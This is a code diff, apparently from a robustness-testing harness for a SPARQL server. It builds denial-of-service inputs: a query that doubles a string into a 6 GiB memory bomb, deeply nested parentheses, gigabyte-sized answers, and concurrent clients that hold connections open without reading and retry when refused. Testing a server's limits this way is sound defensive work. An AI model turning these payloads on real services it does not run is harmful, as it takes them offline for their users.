@@ -54,19 +54,17 @@ class Tally:
 
 # --- the queries ------------------------------------------------------------------------
 
-#: Item 2: a string doubled 27 times (48 B × 2^27 = 6 GiB) by a 1.2 KB query.
-MEMORY_BOMB = (
-    'SELECT (STRLEN(?s27) AS ?n) { BIND("'
-    + "a" * 48
-    + '" AS ?s0) '
-    + " ".join(f"BIND(CONCAT(?s{i}, ?s{i}) AS ?s{i + 1})" for i in range(27))
-    + " }"
-)
+
+def memory_bomb(doublings: int = 27) -> str:
+    """Item 2: a string doubled ``doublings`` times (27: 48 B × 2^27 = 6 GiB) by ~1 KB."""
+    binds = " ".join(f"BIND(CONCAT(?s{i}, ?s{i}) AS ?s{i + 1})" for i in range(doublings))
+    return f'SELECT (STRLEN(?s{doublings}) AS ?n) {{ BIND("{"a" * 48}" AS ?s0) {binds} }}'
+
+
 #: Item 3: 5,000 nested parentheses (10 KB).
 DEEP_NESTING = "SELECT * { FILTER(" + "(" * 5000 + "1" + ")" * 5000 + ") }"
 
 
-#: Items 1 and 5: a 12 KB query whose answer is 100,000 rows of 10 KB (1 GB) unless capped.
 def big_answer(rows_a: int, rows_b: int, rows_c: int, width: int) -> str:
     """A query whose answer is rows_a × rows_b × rows_c rows of ``width`` bytes each."""
     values = " ".join(
@@ -76,6 +74,7 @@ def big_answer(rows_a: int, rows_b: int, rows_c: int, width: int) -> str:
     return f'SELECT ?a ?b ?c ?x {{ {values} BIND("{"x" * width}" AS ?x) }}'
 
 
+#: Items 1 and 5: a 12 KB query whose answer is 100,000 rows of 10 KB (1 GB) unless capped.
 HUGE_ANSWER = big_answer(100, 100, 10, 10_000)
 #: Item 1: big enough (20 MB) to fill every buffer between server and client many times.
 LARGE_ANSWER = big_answer(100, 100, 1, 2_000)
@@ -156,35 +155,51 @@ def slow_senders(
 def non_readers(
     target: Target, count: int, stop: threading.Event, query: str = HUGE_ANSWER
 ) -> dict[str, object]:
-    """Items 1 and 5: ``count`` clients that ask for a huge answer and never read it."""
+    """Items 1 and 5: ``count`` clients that ask for a huge answer and never read it; one
+    refused (429, 503 …) asks again a moment later, until ``count`` answers are held."""
     body = urlencode({"query": query}).encode()
-    socks, answered = [], 0
-    for _ in range(count):
-        if stop.is_set():
-            break
+    request = (
+        f"POST {target.query_path} HTTP/1.1\r\nHost: x\r\nAccept: text/csv\r\n"
+        f"Content-Type: application/x-www-form-urlencoded\r\n"
+        f"Content-Length: {len(body)}\r\n\r\n"
+    ).encode() + body
+    held: list[socket.socket] = []
+    tally = Tally()
+    while len(held) < count and not stop.is_set():
         try:
             sock = target.connect(timeout=120)
             sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
-            sock.sendall(
-                f"POST {target.query_path} HTTP/1.1\r\nHost: x\r\nAccept: text/csv\r\n"
-                f"Content-Type: application/x-www-form-urlencoded\r\n"
-                f"Content-Length: {len(body)}\r\n\r\n".encode()
-                + body
-            )
-            socks.append(sock)
-        except OSError:
-            pass
-    for sock in socks:  # the status line only, to know the server answered; then nothing
-        try:
-            sock.settimeout(max(1.0, 0.1))
-            if sock.recv(12):
-                answered += 1
-        except OSError:
-            pass
+            sock.sendall(request)
+            status = sock.recv(12)[9:12].decode() or "closed"
+        except OSError as exc:
+            tally.add(type(exc).__name__)
+            stop.wait(0.2)
+            continue
+        tally.add(status)
+        if status == "200":
+            held.append(sock)  # the answer is waiting: never read it
+        else:
+            sock.close()
+            stop.wait(0.2)
     stop.wait()
-    for sock in socks:
+    for sock in held:
         sock.close()
-    return {"opened": len(socks), "answer_started": answered}
+    return {"held": len(held), "answers": tally.counts}
+
+
+def in_threads(count: int, attack: Callable[[], dict]) -> dict[str, int]:
+    """``attack`` in ``count`` threads at once; their tallies added up."""
+    results: list[dict] = []
+    threads = [threading.Thread(target=lambda: results.append(attack())) for _ in range(count)]
+    for thread in threads:
+        thread.start()
+    for thread in threads:
+        thread.join()
+    total: dict[str, int] = {}
+    for result in results:
+        for key, value in result.items():
+            total[key] = total.get(key, 0) + value
+    return total
 
 
 def repeat(
